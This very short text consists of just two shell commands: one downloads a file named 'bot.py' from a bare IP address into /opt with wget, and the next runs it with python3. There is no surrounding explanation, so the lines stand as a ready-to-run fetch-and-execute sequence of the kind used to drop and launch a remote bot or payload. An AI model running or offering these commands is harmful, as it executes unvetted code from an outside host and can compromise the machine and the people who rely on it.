wget http://203.0.113.4/bot.py -P /opt
python3 /opt/bot.py
